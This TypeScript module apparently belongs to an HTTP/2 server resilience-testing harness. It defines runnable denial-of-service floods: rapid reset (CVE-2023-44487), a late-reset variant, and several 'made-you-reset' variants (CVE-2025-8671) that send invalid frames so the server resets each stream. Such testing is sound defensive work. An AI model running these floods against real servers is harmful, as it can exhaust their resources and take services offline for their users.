/**
 * Streams that end before they are answered: the attacker resets them (rapid reset), or makes the server reset them.
 */
import { type Attack, byOne, flood } from '../attack.ts'
import type { Connection, Target } from '../connection.ts'
import { frame, flag, headers, priority, reset, type, windowUpdate } from '@volant/test-kit/http2-frames'
import { head } from '../hpack.ts'

const goal = { calls: 500, memory: 'rise', ends: 'connections', back: 10 } as const
const times = { full: 100_000, quick: 10_000 } as const

export const resets: readonly Attack[] = [
  {
    name: 'rapid-reset',
    about: 'Each request is reset in the same bytes (CVE-2023-44487).',
    goal,
    times,
    run(target, count) {
      const block = head({ encrypted: target.encrypted })
      return byOne(target, (connection) =>
        flood(connection, count, (at) => Buffer.concat([headers(2 * at + 1, block), reset(2 * at + 1)])),
      )
    },
  },
  {
    name: 'late-reset',
    about:
      'Requests are sent by fifties and reset when the server has had a turn: their handlers have begun.',
    goal,
    times,
    async run(target, count) {
      const block = head({ encrypted: target.encrypted })
      let answered = 0
      const outcome = await byOne(target, async (connection) => {
        const sent = await resetLate(connection, count, block)
        answered = connection.replies
        return sent
      })
      return { ...outcome, answered }
    },
  },
  madeYouReset('window-overflow', 'WINDOW_UPDATE beyond 2³¹−1', true, (stream) =>
    windowUpdate(stream, 0x7fff_ffff),
  ),
  madeYouReset('zero-increment', 'WINDOW_UPDATE by 0', true, (stream) => windowUpdate(stream, 0)),
  madeYouReset('headers-after-end', 'HEADERS behind END_STREAM', false, (stream, target) =>
    headers(stream, head({ encrypted: target.encrypted })),
  ),
  madeYouReset('data-after-end', 'DATA behind END_STREAM', false, (stream) =>
    frame(type.data, 0, stream, Buffer.from('x')),
  ),
  madeYouReset('long-priority', 'a PRIORITY frame of 6 bytes', true, (stream) =>
    frame(type.priority, 0, stream, Buffer.alloc(6)),
  ),
  madeYouReset('self-dependency', 'a stream that depends on itself', true, (stream) =>
    priority(stream, stream),
  ),
]

/** CVE-2025-8671: sends a request, then a frame of its stream for which the server has to reset the stream. */
function madeYouReset(
  name: string,
  what: string,
  open: boolean,
  fault: (stream: number, target: Target) => Buffer,
): Attack {
  return {
    name: `made-you-reset:${name}`,
    about: `The server is made to reset each stream, by ${what} (CVE-2025-8671).`,
    goal,
    times,
    run(target, count) {
      const block = head({ method: open ? 'POST' : 'GET', encrypted: target.encrypted })
      return byOne(target, (connection) =>
        flood(connection, count, (at) => {
          const stream = 2 * at + 1
          return Buffer.concat([headers(stream, block, open), fault(stream, target)])
        }),
      )
    },
  }
}

async function resetLate(connection: Connection, count: number, block: Uint8Array): Promise<number> {
  const share = 50
  for (let first = 0; first < count; first += share) {
    if (connection.ending !== 'open' || connection.isStalled) return first
    const streams = Array.from({ length: share }, (_, at) => 2 * (first + at) + 1)
    const answered = connection.replies
    await connection.send(Buffer.concat(streams.map((stream) => headers(stream, block))))
    await connection.until(() => connection.replies > answered || connection.goaway !== null, 20)
    await connection.send(Buffer.concat(streams.map((stream) => reset(stream))))
  }
  return count
}

/** Writes a whole HEADERS frame without END_HEADERS, so that its header block stays open. */
export function openHeaders(stream: number, block: Uint8Array): Buffer {
  return frame(type.headers, flag.endStream, stream, block)
}
